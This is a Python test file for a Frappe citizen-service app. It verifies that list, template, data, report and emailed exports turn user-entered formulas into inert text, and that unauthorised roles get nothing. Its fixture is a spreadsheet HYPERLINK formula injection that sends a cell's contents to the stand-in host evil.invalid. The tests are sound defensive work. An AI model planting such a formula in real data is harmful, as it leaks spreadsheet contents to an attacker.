"""What a citizen typed is exported as text: no spreadsheet that opens the file does anything with it."""

import csv
import io
import json

import frappe
import openpyxl
from frappe.utils import today

from citizen_service.emergency.record import MARKED, record
from citizen_service.tests import factories as make
from citizen_service.tests.base import HttpTestCase
from citizen_service.tests.support.server import Reply

FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"اضغط هنا")'
LIST, TEMPLATE = "frappe.desk.reportview.export_query", "frappe.core.doctype.data_import.data_import."
REPORT, DATA = "frappe.desk.query_report.export_query", "frappe.core.doctype.data_export.exporter.export_data"


class ExportsTest(HttpTestCase):
	@classmethod
	def setUpClass(cls) -> None:
		super().setUpClass()
		cls.case = make.make_case(subject=FORMULA, description="@SUM(1)", address="-2+A1").name
		frappe.db.commit()
		cls.manager = cls.as_user(cls.office.manager)

	def export(self, kind: str, **how: str) -> Reply:
		fields = [
			f"`tabCase`.`{field}`" for field in ("name", "subject", "description", "address", "latitude")
		]
		filters = json.dumps([["Case", "name", "=", self.case]])
		asked = {
			"doctype": "Case",
			"fields": json.dumps(fields),
			"filters": filters,
			"file_format_type": kind,
		}
		return self.ok(self.manager.call(LIST, **asked, **how))

	def test_a_list_as_csv(self):
		for delimiter in (",", ";"):
			for quoting in ("0", "1", "2"):
				reply = self.export("CSV", csv_delimiter=delimiter, csv_quoting=quoting)
				_labels, row = csv.reader(io.StringIO(reply.text, newline=""), delimiter=delimiter)
				self.assertEqual(row[1:5], [self.case, f"'{FORMULA}", "'@SUM(1)", "'-2+A1"])

	def test_a_list_as_a_workbook(self):
		self.only_text(self.export("Excel").body)

	def test_a_template_with_records(self):
		asked = {
			"doctype": "Case",
			"export_fields": json.dumps({"Case": ["name", "subject"]}),
			"export_records": "by_filter",
			"export_filters": json.dumps({"name": self.case}),
		}
		reply = self.ok(self.manager.call(TEMPLATE + "download_template", **asked, file_type="CSV"))
		self.assertIn(f"'{FORMULA}", [cell for row in csv.reader(io.StringIO(reply.text)) for cell in row])
		reply = self.ok(self.manager.call(TEMPLATE + "download_template", **asked, file_type="Excel"))
		self.only_text(reply.body)

	def test_data_export(self):
		asked = {
			"doctype": "Case",
			"select_columns": json.dumps({"Case": ["name", "subject"]}),
			"filters": json.dumps({"name": self.case}),
			"with_data": "1",
		}
		reply = self.ok(self.manager.call(DATA, **asked, file_type="CSV"))
		self.assertIn(f"'{FORMULA}", [cell for row in csv.reader(io.StringIO(reply.text)) for cell in row])
		self.only_text(self.ok(self.manager.call(DATA, **asked, file_type="Excel")).body)

	def test_a_report_as_csv_and_as_a_workbook(self):
		record([{"case": self.case, "event": MARKED, "reason": FORMULA}])
		frappe.db.commit()
		asked = {
			"report_name": "Emergency Register",
			"filters": json.dumps({"from_date": today(), "to_date": today()}),
			"visible_idx": json.dumps(list(range(1000))),
		}
		reply = self.ok(self.manager.call(REPORT, **asked, file_format_type="CSV"))
		cells = [cell for row in csv.reader(io.StringIO(reply.text, newline="")) for cell in row]
		self.assertIn(f"'{FORMULA}", cells)
		self.assertNotIn(FORMULA, cells)
		self.only_text(self.ok(self.manager.call(REPORT, **asked, file_format_type="Excel")).body)

	def only_text(self, content: bytes) -> None:
		"""A workbook that tells the formula as a text, and holds none."""
		cells = [
			cell for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row
		]
		self.assertNotIn("f", {cell.data_type for cell in cells})
		self.assertIn(f"'{FORMULA}", [cell.value for cell in cells])

	def test_reports_by_e_mail(self):
		view = {
			"fields": [["name", "Case"], ["subject", "Case"]],
			"filters": [["Case", "name", "=", self.case]],
		}
		report = frappe.get_doc(
			{
				"doctype": "Report",
				"report_name": f"Subjects {self.case}",
				"ref_doctype": "Case",
				"report_type": "Report Builder",
				"is_standard": "No",
				"json": json.dumps(view),
			}
		).insert()
		self.addCleanup(report.delete)
		mail = frappe.new_doc("Auto Email Report")
		mail.update({"report": report.name, "report_type": report.report_type, "user": self.office.manager})
		content = mail.update({"format": "CSV"}).get_report_content()
		self.assertIn(f"'{FORMULA}", [cell for row in csv.reader(io.StringIO(content)) for cell in row])
		self.only_text(mail.update({"format": "XLSX"}).get_report_content())

	def test_who_may_not_export_gets_nothing(self):
		for user in (self.office.reception, self.office.roads_officer):
			reply = self.as_user(user).call(
				LIST, doctype="Case", fields='["`tabCase`.`subject`"]', file_format_type="CSV"
			)
			self.denied(reply)
			self.assertNotIn("HYPERLINK", reply.text)
